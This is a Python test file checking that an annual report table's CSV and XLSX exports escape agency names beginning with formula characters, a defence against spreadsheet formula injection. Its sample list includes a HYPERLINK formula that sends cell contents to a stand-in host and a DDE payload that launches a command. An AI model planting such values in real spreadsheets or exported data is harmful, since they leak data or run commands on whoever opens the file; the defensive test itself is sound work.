"""Catalog names that a spreadsheet would run as formulas (issue 20, item 10): the annual
table's CSV and XLSX write them as text."""

from __future__ import annotations

import csv
import io
import re
import zipfile

from openpyxl import load_workbook

from bench.pdf_libraries import appendix_table
from services.api.reports.annual_table import AnnualTable
from services.api.reports.files import spreadsheet_text, to_csv, to_xlsx

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def table_with_names(names: list[str]) -> AnnualTable:
    table = appendix_table()
    rows = [
        row.model_copy(update={"agency_name": name})
        for row, name in zip(table.rows, names, strict=False)
    ]
    return table.model_copy(update={"rows": rows + table.rows[len(names) :]})


def test_spreadsheet_text_escapes_formula_starts_only() -> None:
    for text in FORMULAS:
        assert spreadsheet_text(text) == "'" + text
    # numbers (a change of -1.50 points) and ordinary names stay as they are
    for text in ("-1.50", "+2", "Sở Y tế", "", "1=1"):
        assert spreadsheet_text(text) == text


def test_annual_csv_and_xlsx_never_carry_a_formula() -> None:
    table = table_with_names(FORMULAS)
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    names = [r[1] for r in rows[2 : 2 + len(FORMULAS)]]
    assert names == ["'" + f for f in FORMULAS]

    data = to_xlsx(table)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula anywhere: the names are text cells
    assert re.search(r'<c r="B4" [^>]*t="inlineStr"><is><t>=HYPERLINK', sheet)
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    cells = [ws.cell(row=4 + i, column=2) for i in range(len(FORMULAS))]
    assert [c.value for c in cells] == FORMULAS  # the name itself, intact
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
